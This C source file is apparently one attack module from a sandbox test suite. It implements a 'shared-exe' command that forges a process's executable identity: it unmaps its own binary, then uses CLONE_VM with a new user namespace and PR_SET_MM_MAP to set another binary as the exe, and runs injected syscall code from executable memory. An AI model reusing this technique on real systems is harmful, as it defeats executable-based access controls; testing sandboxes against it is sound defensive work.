// SPDX-License-Identifier: Apache-2.0
/*
 * A process names another file as its binary: PR_SET_MM takes the rights of the user namespace, and who
 * shares the memory (CLONE_VM) of a process outside does it for that one, too.
 */
#include "attack.h"

#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

enum { CODE_SIZE = 4096, MOST_PARTS = 32 };

/* All that the code below needs: it runs where nothing of this program is mapped any more. */
struct forgery {
	long file, text_size;
	char text[64], go[64];
	long parts;
	struct {
		unsigned long from, to;
	} part[MOST_PARTS];
	struct prctl_mm_map map;
	struct timespec pause;
};

static inline __attribute__((always_inline)) long call(long number, long a, long b, long c, long d,
						       long e)
{
	register long fourth __asm__("r10") = d;
	register long fifth __asm__("r8") = e;
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth), "r"(fifth)
			 : "rcx", "r11", "memory");
	return result;
}

static __attribute__((section(".forge"), noinline, used)) void forge(struct forgery *f)
{
	long child;

	for (long i = 0; i < f->parts; i++)
		call(SYS_munmap, (long)f->part[i].from, (long)(f->part[i].to - f->part[i].from), 0,
		     0, 0);
	child = call(SYS_clone, CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
	if (!child)
		call(SYS_exit_group,
		     call(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&f->map, sizeof(f->map), 0) !=
			     0,
		     0, 0, 0, 0);
	while (call(SYS_access, (long)f->go, 0, 0, 0, 0))
		call(SYS_nanosleep, (long)&f->pause, 0, 0, 0, 0);
	call(SYS_exit_group, call(SYS_write, f->file, (long)f->text, f->text_size, 0, 0) < 0, 0, 0,
	     0, 0);
}

/* Where this program's own file is mapped: the kernel takes another one only when all of it is gone. */
static void list_parts(struct forgery *f)
{
	FILE *maps = fopen("/proc/self/maps", "r");
	char line[512], own[256] = "";

	if (!maps || readlink("/proc/self/exe", own, sizeof(own) - 1) < 0)
		refused("/proc/self");
	while (fgets(line, sizeof(line), maps) && f->parts < MOST_PARTS)
		if (strstr(line, own) &&
		    sscanf(line, "%lx-%lx", &f->part[f->parts].from, &f->part[f->parts].to) == 2)
			f->parts++;
	fclose(maps);
}

/* Then waits until the file GO is there, and writes. */
static int shared_exe(int argc, char **argv)
{
	void *memory = mmap(NULL, 2 * CODE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC,
			    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	unsigned long code = (unsigned long)memory, stack = (unsigned long)&argc;
	struct forgery *f =
		mmap(NULL, sizeof(*f), PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	f->file = must(open(argv[1], O_WRONLY | O_APPEND), argv[1]);
	snprintf(f->text, sizeof(f->text), "%s", argv[2]);
	f->text_size = (long)strlen(f->text);
	snprintf(f->go, sizeof(f->go), "%s", argv[3]);
	f->pause.tv_nsec = 20000000;
	f->map = (struct prctl_mm_map){
		.start_code = code,
		.end_code = code + CODE_SIZE,
		.start_data = code,
		.end_data = code + CODE_SIZE,
		.start_brk = code + 2 * CODE_SIZE,
		.brk = code + 2 * CODE_SIZE,
		.start_stack = stack,
		.arg_start = stack,
		.arg_end = stack + 4,
		.env_start = stack + 4,
		.env_end = stack + 8,
		.exe_fd = (unsigned int)must(open(argv[4], O_RDONLY), argv[4]),
	};
	list_parts(f);
	memcpy(memory, (void *)forge, CODE_SIZE / 2);
	puts("waiting");
	fflush(stdout);
	((void (*)(struct forgery *))memory)(f);
	return EXIT_REFUSED;
}

const struct command forged_exe_commands[] = {
	{ "shared-exe", "FILE TEXT GO BINARY", shared_exe, 4 },
	{ NULL, NULL, NULL, 0 },
};
